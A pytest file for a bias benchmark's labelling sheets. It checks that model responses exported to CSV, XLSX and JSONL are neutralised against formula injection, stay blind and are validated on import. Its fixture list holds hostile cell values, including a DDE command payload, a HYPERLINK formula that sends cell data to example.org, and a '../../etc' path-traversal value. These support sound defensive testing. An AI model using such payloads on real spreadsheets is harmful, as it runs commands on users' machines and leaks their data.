"""Sheets for people and back: blind, harmless to the program that opens them, and only what was drawn is taken."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from biasfw import DataError, RunConfig, StoreError, UsageError
from biasfw.engine import run
from biasfw.labelling.keeping import load_draw, load_labels
from biasfw.labelling.texts import CELL_LIMIT, cell_text, guarded, is_unedited, text_hash
from biasfw.labelling.work import Drawn, draw_labels, import_labels
from biasfw.plugins import Plugins

from .conftest import Stored

HOSTILE = [
    '=HYPERLINK("http://example.org/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r\n=cmd|' /C calc'!A0",
    "\u200f=1+1", "＝1+1", "'quoted from the start", "- a list\n- of two", "a,b;c\t\"d\"", "line\r\none\rtwo\nthree",
    "\x1b[31mred\x07", "_x0041_ is not A", "MODERN GROUP: العرب\u200f\nSTEREOTYPED GROUP: الغربيون\u202b", "", "   ",
    "\ud800 alone", "x" * (CELL_LIMIT + 500), "\ufeffmark", "日本語の答え\u3000。", "\u2028\u0085 data", "<b>&amp;</b>",
]  # fmt: skip
KINDS = ["csv", "xlsx", "jsonl"]


@pytest.fixture
def hostile(stored: Stored) -> Stored:
    """The run, in which the model wrote whatever could hurt."""
    path = stored.path / "responses.jsonl"
    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    for place, line in enumerate(lines):
        line["text"] = HOSTILE[place % len(HOSTILE)]
    path.write_text("".join(f"{json.dumps(line)}\n" for line in lines), encoding="utf-8")
    return stored


def drawn(stored: Stored, kind: str, installed: Plugins, n: int = 40, seed: int = 0) -> tuple[Drawn, Path]:
    sheet = stored.path.parent / f"sheet-{n}-{seed}.{kind}"
    return draw_labels(stored.path, n, seed, sheet, installed), sheet


def read(path: Path) -> list[dict[str, Any]]:
    """A sheet as a program reads it: column -> cell."""
    if path.suffix == ".csv":
        return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    if path.suffix == ".jsonl":
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").split("\n") if line]
        return [{**row, **{f"label:{slot}": label for slot, label in row["labels"].items()}} for row in rows]
    sheet = openpyxl.load_workbook(path)["labels"]
    head, *rest = sheet.iter_rows(values_only=True)
    return [dict(zip(head, row, strict=True)) for row in rest]


def write(path: Path, rows: list[dict[str, Any]]) -> None:
    """Save a sheet again, as a program does."""
    if path.suffix == ".csv":
        out = io.StringIO(newline="")
        writer = csv.DictWriter(out, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(out.getvalue(), encoding="utf-8-sig", newline="")
    elif path.suffix == ".jsonl":
        slots = [name for name in rows[0] if name.startswith("label:")]
        plain = [
            {k: v for k, v in row.items() if k not in slots} | {"labels": {s[6:]: row[s] for s in slots}}
            for row in rows
        ]
        path.write_text("".join(f"{json.dumps(row)}\n" for row in plain), encoding="utf-8")
    else:
        book = openpyxl.load_workbook(path)
        for number, row in enumerate(rows, start=2):
            for place, value in enumerate(row.values(), start=1):
                cell = book["labels"].cell(number, place)
                cell.value = value
                if value is not None:
                    cell.data_type = "s"
        book.save(path)


def fill(path: Path, labels: list[str | None], slot: str = "modern") -> list[dict[str, Any]]:
    rows = read(path)
    for row, label in zip(rows, labels, strict=False):
        row[f"label:{slot}"] = label
    write(path, rows)
    return rows


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_responses_come_back_unchanged(hostile: Stored, kind: str, installed: Plugins) -> None:
    done, sheet = drawn(hostile, kind, installed)
    assert len(done.draw.rows) == 80
    write(sheet, fill(sheet, ["arabs"] * 80))
    imported = import_labels(hostile.path, sheet)
    assert (imported.new, imported.empty) == (80, 80)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_is_a_formula(hostile: Stored, kind: str, installed: Plugins) -> None:
    _, sheet = drawn(hostile, kind, installed)
    cells = [value for row in read(sheet) for value in row.values() if value]
    for cell in cells:
        assert cell.lstrip(" \t\r\n\u00a0\u200f\ufeff\u3000")[:1] not in tuple("=+-@|%＝＋－＠")
    if kind == "xlsx":
        book = openpyxl.load_workbook(sheet)
        kinds = {cell.data_type for row in book["labels"].iter_rows() for cell in row if cell.value is not None}
        assert kinds == {"s"}


def test_programs_that_drop_the_apostrophe_change_nothing(hostile: Stored, installed: Plugins) -> None:
    _, sheet = drawn(hostile, "csv", installed)
    rows = read(sheet)
    for row in rows:
        row["response"] = row["response"].removeprefix("'").replace("\n", "\r\n")
        row["label:modern"] = "western"
    write(sheet, rows)
    assert import_labels(hostile.path, sheet).new == 80


def test_text_from_right_to_left_is_left_alone() -> None:
    text = "المجموعة الحديثة:\u200f العرب \u202bنص\u202c"
    assert guarded(cell_text(text)) == text


def test_what_is_edited_is_seen() -> None:
    expected = text_hash(cell_text("MODERN GROUP: Arabs"))
    assert is_unedited(" MODERN GROUP: Arabs\r\n", expected)
    assert not is_unedited("MODERN GROUP: Arab", expected)
    assert not is_unedited("", expected)


@pytest.mark.parametrize("kind", KINDS)
def test_a_sheet_is_blind(stored: Stored, kind: str, installed: Plugins) -> None:
    done, sheet = drawn(stored, kind, installed)
    rows = read(sheet)
    expected = {"row", "draw", "language", "response", "label:modern", "label:stereotyped", "note"}
    assert set(rows[0]) - {"labels"} == expected
    assert not [row for row in rows if row["label:modern"] or row["label:stereotyped"] or row["note"]]
    assert {row["row"] for row in rows} == {row.id for row in done.draw.rows}
    assert not {row["row"] for row in rows} & {row.key[:10] for row in done.draw.rows}, "ids tell nothing"


def test_csv_opens_in_excel_and_the_warning_lies_beside_it(stored: Stored, installed: Plugins) -> None:
    done, sheet = drawn(stored, "csv", installed)
    assert sheet.read_bytes().startswith(b"\xef\xbb\xbf")
    beside = sheet.with_name(f"{sheet.name}.README.txt")
    assert done.files == (sheet, beside)
    text = beside.read_text(encoding="utf-8-sig")
    assert text.startswith("CONTENT WARNING")
    for part in ("not for training", "south_asians: South Asians", "unclear: it cannot be told", "label:modern"):
        assert part in text
    assert "none:" not in text.split("LABELS")[1], "this benchmark has a label for it"


def test_xlsx_has_the_warning_first_and_a_list_of_labels(stored: Stored, installed: Plugins) -> None:
    done, sheet = drawn(stored, "xlsx", installed)
    book = openpyxl.load_workbook(sheet)
    assert book.sheetnames == ["read me", "labels", "allowed"]
    assert book["read me"]["A1"].value == "CONTENT WARNING"
    assert [cell.value for (cell,) in book["allowed"].iter_rows()] == list(done.draw.labels)
    rules = book["labels"].data_validations.dataValidation
    assert {str(rule.sqref) for rule in rules} == {"E2:E81", "F2:F81"}
    assert {rule.formula1 for rule in rules} == {"allowed!$A$1:$A$8"}


def test_sheets_are_never_overwritten(stored: Stored, installed: Plugins) -> None:
    _, sheet = drawn(stored, "csv", installed)
    with pytest.raises(UsageError, match="may hold somebody's labels"):
        drawn(stored, "csv", installed)
    with pytest.raises(UsageError, match="a sheet is"):
        draw_labels(stored.path, 40, 0, sheet.with_suffix(".ods"), installed)
    again = draw_labels(stored.path, 40, 0, sheet.with_name("other.csv"), installed)
    assert load_draw(stored.path) == again.draw, "the same draw, not another"


@pytest.mark.parametrize("kind", KINDS)
def test_labels_may_come_in_parts_and_by_name(stored: Stored, kind: str, installed: Plugins) -> None:
    done, sheet = drawn(stored, kind, installed)
    fill(sheet, ["arabs", " South  ASIANS ", "الهنود", "unclear", "refused", "none of them"])
    first = import_labels(stored.path, sheet)
    assert (first.new, first.same, first.empty) == (6, 0, 154)
    rows = fill(sheet, ["africans"], "stereotyped")
    second = import_labels(stored.path, sheet)
    assert (second.new, second.same) == (1, 6)
    kept = load_labels(stored.path, load_draw(stored.path)).labels
    assert [kept[row["row"]]["modern"] for row in rows[:6]] == [
        "arabs", "south_asians", "indians", "unclear", "refused", "none_of_them",
    ]  # fmt: skip
    assert kept[rows[0]["row"]] == {"modern": "arabs", "stereotyped": "africans"}
    assert len(load_labels(stored.path, done.draw).sheets) == 2


def test_another_label_replaces_the_first_only_when_told(stored: Stored, installed: Plugins) -> None:
    _, sheet = drawn(stored, "csv", installed)
    fill(sheet, ["arabs", "western"])
    import_labels(stored.path, sheet)
    rows = fill(sheet, ["indians", "western"])
    with pytest.raises(DataError, match=r'column label:modern: "indians" where "arabs" was imported before'):
        import_labels(stored.path, sheet)
    done = import_labels(stored.path, sheet, replace=True)
    assert (done.replaced, done.same) == (1, 1)
    assert done.labels.labels[rows[0]["row"]]["modern"] == "indians"


PLACES = {"csv": r"sheet-40-0\.csv:\d+: column {}", "jsonl": r"sheet-40-0\.jsonl:\d+: column {}", "xlsx": r"cell {}"}
CELLS = {"row": r"A\d+ \(row\)", "draw": r"B\d+ \(draw\)", "response": r"D\d+ \(response\)", "label:modern": r"E\d+"}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("label:modern", "Arabz", r'"Arabz" is no label; did you mean "arabs"\?'),
        ("row", "0000000000", '"0000000000" was not drawn'),
        ("row", "twice", "stands there twice, first in"),
        ("response", "MODERN GROUP: Arabs\nSTEREOTYPED GROUP: Western, edited", "not the one that was drawn"),
        ("draw", "draw-00000000", "another draw than draw-"),
    ],
)
def test_what_was_not_drawn_so_is_refused_with_its_place(
    stored: Stored, kind: str, column: str, value: str, message: str, installed: Plugins
) -> None:
    _, sheet = drawn(stored, kind, installed)
    rows = fill(sheet, ["arabs"] * 5)
    rows[3][column] = rows[2]["row"] if value == "twice" else value
    write(sheet, rows)
    place = PLACES[kind].format(CELLS[column] if kind == "xlsx" else column)
    with pytest.raises(DataError, match=f"{place}.*{message}.*nothing was imported"):
        import_labels(stored.path, sheet)
    assert not load_labels(stored.path, load_draw(stored.path)).labels


def test_several_problems_are_counted(stored: Stored, installed: Plugins) -> None:
    _, sheet = drawn(stored, "csv", installed)
    fill(sheet, ["x", "y", "z"])
    with pytest.raises(DataError, match=r"and 2 more"):
        import_labels(stored.path, sheet)


def test_sheets_of_another_run_and_of_no_draw_are_refused(stored: Stored, installed: Plugins, tmp_path: Path) -> None:
    _, sheet = drawn(stored, "csv", installed)
    rows = fill(sheet, ["arabs"])
    rows[0]["draw"] = "../../etc"
    write(sheet, rows)
    with pytest.raises(DataError, match="was not drawn from"):
        import_labels(stored.path, sheet)
    made_up = tmp_path / "made-up.csv"
    made_up.write_text("row,draw,response,label:modern\n1,,text,arabs\n", encoding="utf-8")
    with pytest.raises(DataError, match="names no draw"):
        import_labels(stored.path, made_up)
    made_up.write_text("row,response\n", encoding="utf-8")
    with pytest.raises(DataError, match='the column "draw" is missing'):
        import_labels(stored.path, made_up)


def test_a_column_that_was_renamed_is_not_a_column_without_labels(stored: Stored, installed: Plugins) -> None:
    _, sheet = drawn(stored, "csv", installed)
    text = sheet.read_text(encoding="utf-8-sig")
    sheet.write_text(text.replace("label:modern", "label:moderm"), encoding="utf-8")
    with pytest.raises(DataError, match=r'no such slot; did you mean "label:modern"\?'):
        import_labels(stored.path, sheet)
    sheet.write_text(text.replace("label:modern", "modern"), encoding="utf-8")
    with pytest.raises(DataError, match="the column label:modern is missing"):
        import_labels(stored.path, sheet)


def test_a_draw_that_was_changed_is_refused(stored: Stored, installed: Plugins) -> None:
    done, sheet = drawn(stored, "csv", installed)
    fill(sheet, ["arabs"])
    document = json.loads(done.kept.read_text(encoding="utf-8"))
    document["rows"][0]["inclusion"] = 1.0 if document["rows"][0]["inclusion"] != 1.0 else 0.5
    done.kept.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(StoreError, match="was changed since it was drawn"):
        import_labels(stored.path, sheet)


@pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04 torn"])
def test_files_that_are_no_sheets_are_told(stored: Stored, content: bytes, installed: Plugins, tmp_path: Path) -> None:
    drawn(stored, "csv", installed)
    for kind in KINDS:
        path = tmp_path / f"broken.{kind}"
        path.write_bytes(content)
        with pytest.raises(DataError, match=f"broken.{kind}"):
            import_labels(stored.path, path)
    with pytest.raises(DataError, match="a sheet is"):
        import_labels(stored.path, tmp_path / "sheet.ods")


def items(stored: Stored) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (stored.path / "items.jsonl").read_text(encoding="utf-8").splitlines()]


def test_letters_stand_for_the_options_of_each_item(tmp_path: Path, installed: Plugins) -> None:
    config = RunConfig(
        benchmark="jubaku:demo", backend="reference", model="first", mode="generate", limit=200, runs=str(tmp_path)
    )
    stored = Stored(run(config).directory)
    done, sheet = drawn(stored, "csv", installed, n=12)
    assert done.draw.letters[:2] == ("A", "B")
    options = {choice["text"]: choice["key"] for line in items(stored) for choice in line["choices"]}
    for row, cells in zip(done.draw.rows, read(sheet), strict=True):
        shown = [line.partition(": ")[2] for line in cells["options"].split("\n")]
        assert [options[text] for text in shown] == list(row.order)
    fill(sheet, ["a"] * 200, "choice")
    kept = import_labels(stored.path, sheet).labels.labels
    judged = {row["response_key"]: row["slots"]["choice"]["value"] for row in stored.read(stored.rules)}
    assert {kept[row.id]["choice"] for row in done.draw.rows} > {judged[done.draw.rows[0].key]}
    for row in done.draw.rows:
        assert kept[row.id]["choice"] == row.order[0] == judged[row.key], "the model always says the first letter"


def test_runs_that_scored_choices_have_no_text_to_label(tmp_path: Path, installed: Plugins) -> None:
    config = RunConfig(
        benchmark="debatebias", backend="reference", model="random", mode="choices", limit=8, runs=str(tmp_path)
    )
    with pytest.raises(UsageError, match="no text that people could label"):
        draw_labels(run(config).directory, 8, 0, None, installed)
